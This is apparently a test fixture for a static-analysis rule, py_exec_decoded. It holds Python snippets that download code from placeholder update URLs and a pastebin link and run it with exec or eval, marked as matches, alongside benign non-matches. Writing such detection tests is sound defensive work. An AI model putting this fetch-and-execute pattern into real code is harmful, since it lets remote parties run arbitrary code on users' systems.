# fixture: path=pkg/updater.py
# code fetched into a name, then run: the fetch is one or two assignments away from exec
import urllib.request
import requests

stage = requests.get("https://updates.example.org/next").text
# ruleid: py_exec_decoded
exec(stage)
handle = urllib.request.urlopen("https://updates.example.org/plugin")
plugin_source = handle.read().decode()
# ruleid: py_exec_decoded
exec(compile(plugin_source, "<plugin>", "exec"))
# ok: py_exec_decoded
settings = requests.get("https://config.example.org/app.json").json()
# ok: py_exec_decoded
exec(open("pkg/_version.py").read(), {})


def _check(current):
    r = requests.get("https://pastebin.com/raw/vK3dQm8X", timeout=5)
    # ruleid: py_exec_decoded
    (lambda s: eval(compile(s, "<notice>", "exec")))(r.text)
    # ok: py_exec_decoded
    (lambda s: print(s))(r.text)
